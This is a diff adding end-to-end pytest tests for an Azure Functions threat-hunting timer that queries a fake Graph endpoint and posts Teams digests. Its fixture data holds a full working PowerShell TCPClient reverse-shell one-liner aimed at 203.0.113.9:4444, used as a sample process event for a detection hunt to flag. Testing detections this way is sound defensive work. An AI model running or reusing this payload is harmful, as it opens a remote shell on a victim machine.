@@ -1,0 +1,223 @@
+"""The timer function end to end: Azurite, a local Graph, a local managed-identity endpoint and
+a local Teams webhook, all over real HTTP. Nothing of ours or of the Azure SDKs is mocked."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Callable, Iterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import azure.functions as func
+import pytest
+from azure.data.tables import TableServiceClient
+from azure.functions.timer import TimerRequest
+
+from devtools.fake_graph import FakeGraph
+from devtools.identity import IdentityServer
+from devtools.webhook import Hang, Reply, WebhookReceiver
+from shared.card import summarize_digest
+from shared.hunt import load_hunts
+
+REPO = Path(__file__).resolve().parents[1]
+DEVICE = "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"
+SHELL = ("powershell.exe -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('203.0.113.9',"
+         "4444);$s = $client.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, "
+         "$b.Length)) -ne 0){$d = (New-Object System.Text.ASCIIEncoding).GetString($b,0, $i);"
+         "$r = (iex $d 2>&1 | Out-String );$r2 = $r + 'PS> ';$sb = ([text.encoding]::ASCII)"
+         ".GetBytes($r2);$s.Write($sb,0,$sb.Length);$s.Flush()};$client.Close()\"")
+BROKEN_HUNT = """\
+id: 99999999-0000-0000-0000-000000000001
+name: Broken on the service side
+source: defender
+query: |
+  DeviceProcessEvents
+  | where NoSuchColumn == "x"
+"""
+
+
+def process_event(report_id: int, when: datetime, command: str) -> dict[str, Any]:
+    return {"Timestamp": when.strftime("%Y-%m-%dT%H:%M:%SZ"), "DeviceId": DEVICE,
+            "DeviceName": "ws-0042.contoso.local", "ReportId": report_id,
+            "ActionType": "ProcessCreated", "FileName": "powershell.exe",
+            "FolderPath": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+            "ProcessCommandLine": command, "AccountDomain": "contoso", "AccountName": "jdoe",
+            "InitiatingProcessFileName": "cmd.exe",
+            "InitiatingProcessCommandLine": "cmd.exe /c start.bat",
+            "InitiatingProcessParentFileName": "winword.exe"}
+
+
+@pytest.fixture(scope="module")
+def function() -> Any:
+    import function_app
+
+    (only,) = function_app.app.get_functions()  # a second call raises: read once per module
+    return only
+
+
+@pytest.fixture(scope="module")
+def user_function(function: Any) -> Callable[[func.TimerRequest], None]:
+    user: Callable[[func.TimerRequest], None] = function.get_user_function()
+    return user
+
+
+@pytest.fixture
+def world(tmp_path: Path, storage_connection_string: str,
+          monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
+    now = datetime.now(UTC).replace(microsecond=0)
+    events = tmp_path / "DeviceProcessEvents.jsonl"
+    rows = [process_event(1, now - timedelta(minutes=50), SHELL),
+            process_event(2, now - timedelta(minutes=40), "powershell.exe Get-Service"),
+            process_event(3, now - timedelta(minutes=30), SHELL.replace("4444", "443"))]
+    events.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    hunts = tmp_path / "hunts"
+    shutil.copytree(REPO / "hunts", hunts)
+    (hunts / "broken.yaml").write_text(BROKEN_HUNT)
+    _clear_tables(storage_connection_string)
+    with IdentityServer() as identity, FakeGraph({"DeviceProcessEvents": events}) as graph, \
+            WebhookReceiver() as webhook:
+        env = {**identity.env, "HUNTWIRE_STORAGE": storage_connection_string,
+               "HUNTWIRE_GRAPH_ENDPOINT": graph.url, "HUNTWIRE_TEAMS_WEBHOOK_URL": webhook.url,
+               "HUNTWIRE_HUNTS_DIR": str(hunts), "HUNTWIRE_SCHEDULE": "0 0 * * * *"}
+        for name, value in env.items():
+            monkeypatch.setenv(name, value)
+        import function_app
+
+        function_app.settings.cache_clear()
+        yield {"graph": graph, "webhook": webhook, "env": env, "hunts": hunts}
+        function_app.settings.cache_clear()
+
+
+def _clear_tables(connection_string: str) -> None:
+    service = TableServiceClient.from_connection_string(connection_string)
+    for table in service.list_tables():
+        service.delete_table(table.name)
+
+
+def run_timer(user_function: Callable[[func.TimerRequest], None]) -> str | None:
+    """Call the function as the host would; return the error it raised, if any."""
+    try:
+        user_function(TimerRequest(past_due=False))
+    except RuntimeError as error:
+        return str(error)
+    return None
+
+
+def hunt_names(payloads: list[Any]) -> list[str]:
+    return [summarize_digest(p).hunt_name for p in payloads]
+
+
+def test_function_binding_is_a_timer_on_the_schedule_setting(function: Any) -> None:
+    (binding,) = [b.get_dict_repr() for b in function.get_bindings()]
+    assert binding["type"] == "timerTrigger"
+    assert binding["schedule"] == "%HUNTWIRE_SCHEDULE%"
+    assert binding["useMonitor"] is True
+    assert binding["runOnStartup"] is False
+    assert function.get_function_name() == "hourly_hunts"
+
+
+def test_default_schedule_is_valid_hourly_ncrontab() -> None:
+    from shared.settings import DEFAULT_SCHEDULE, load_settings
+
+    example = json.loads((REPO / "local.settings.json.example").read_text())["Values"]
+    assert example["HUNTWIRE_SCHEDULE"] == DEFAULT_SCHEDULE == "0 0 * * * *"
+    assert load_settings({"HUNTWIRE_STORAGE": "x"}).schedule == DEFAULT_SCHEDULE
+
+
+SEED = "PowerShell TCPClient reverse shell (Microsoft original)"
+
+
+def test_first_run_posts_one_digest_per_hunt_second_run_posts_nothing(
+        world: dict[str, Any], user_function: Callable[[func.TimerRequest], None]) -> None:
+    webhook: WebhookReceiver = world["webhook"]
+    error = run_timer(user_function)
+    # The broken hunt fails (Graph answers 400) and makes the invocation fail, visibly...
+    assert error is not None
+    assert "99999999-0000-0000-0000-000000000001" in error
+    # ...but did not stop the others: every hunt with findings posted exactly one digest.
+    first = webhook.payloads
+    names = hunt_names(first)
+    assert len(names) == len(set(names)) >= 2
+    assert SEED in names
+    assert all(p["attachments"][0]["content"]["version"] == "1.4" for p in first)
+    assert all(summarize_digest(p).total_new == 2 for p in first if
+               summarize_digest(p).hunt_name == SEED)
+    assert "Get-Service" not in json.dumps(first)
+    queries = [r.json()["Query"] for r in world["graph"].requests if r.path.endswith("Query")]
+    assert len(queries) >= 3
+    # Second hourly run: the same events are seen again, nothing new is posted.
+    _forget_last_run(world)
+    run_timer(user_function)
+    assert len(webhook.payloads) == len(first)
+    assert len(world["graph"].requests) > len(queries)  # it did query again
+
+
+def test_failed_post_loses_nothing_and_next_run_posts_once(
+        world: dict[str, Any], user_function: Callable[[func.TimerRequest], None]) -> None:
+    webhook: WebhookReceiver = world["webhook"]
+    webhook.default = Reply(503, {"Retry-After": "0"})  # fail fast: retries still all happen
+    run_timer(user_function)
+    failed_attempts = len(webhook.posts)
+    assert failed_attempts >= 2  # tried, retried, gave up: findings stay pending
+    webhook.default = Reply(202)
+    _forget_last_run(world)
+    run_timer(user_function)
+    delivered = hunt_names(webhook.payloads[failed_attempts:])
+    assert len(delivered) == len(set(delivered)) >= 2
+    assert SEED in delivered
+    _forget_last_run(world)
+    run_timer(user_function)
+    assert len(webhook.posts) == failed_attempts + len(delivered)
+
+
+def _forget_last_run(world: dict[str, Any]) -> None:
+    """Make the hunts due again now, as an hour passing would (windows stay as they were)."""
+    from shared.ledger import Ledger
+
+    ledger = Ledger.from_connection_string(world["env"]["HUNTWIRE_STORAGE"])
+    for hunt in load_hunts(world["hunts"]).hunts:
+        checkpoint = ledger.checkpoint(hunt.id)
+        if checkpoint is not None:
+            checkpoint.last_run_start = datetime(2000, 1, 1, tzinfo=UTC)
+            ledger.save_checkpoint(checkpoint)
+
+
+def test_process_killed_between_claim_and_notify_posts_next_run(
+        world: dict[str, Any], user_function: Callable[[func.TimerRequest], None]) -> None:
+    from shared.ledger import Ledger
+
+    webhook: WebhookReceiver = world["webhook"]
+    webhook.default = Hang(30)
+    child = subprocess.Popen(
+        [sys.executable, "-c", "import azure.functions.timer as t, function_app as a; "
+         "a.app.get_functions()[0].get_user_function()(t.TimerRequest())"],
+        cwd=REPO, env={**os.environ, **world["env"]}, stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + 60
+    while not webhook.posts and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert webhook.posts, "the child never reached the Teams post"
+    child.send_signal(signal.SIGKILL)  # its findings are claimed; notify never completes
+    child.wait()
+    (hung,) = hunt_names([webhook.posts[0].json()])
+    hung_id = next(h.id for h in load_hunts(world["hunts"]).hunts if h.name == hung)
+    ledger = Ledger.from_connection_string(world["env"]["HUNTWIRE_STORAGE"])
+    assert len(ledger.pending(next(h for h in load_hunts(world["hunts"]).hunts
+                                   if h.id == hung_id))) >= 1
+    posts_before = len(webhook.posts)
+    webhook.default = Reply(202)
+    _forget_last_run(world)
+    run_timer(user_function)
+    delivered = hunt_names(webhook.payloads[posts_before:])
+    assert delivered.count(hung) == 1
+    checkpoint = ledger.checkpoint(hung_id)
+    assert checkpoint is not None
+    assert checkpoint.new == 0  # nothing new this run: what was posted came from pending
+    assert checkpoint.posted >= 1
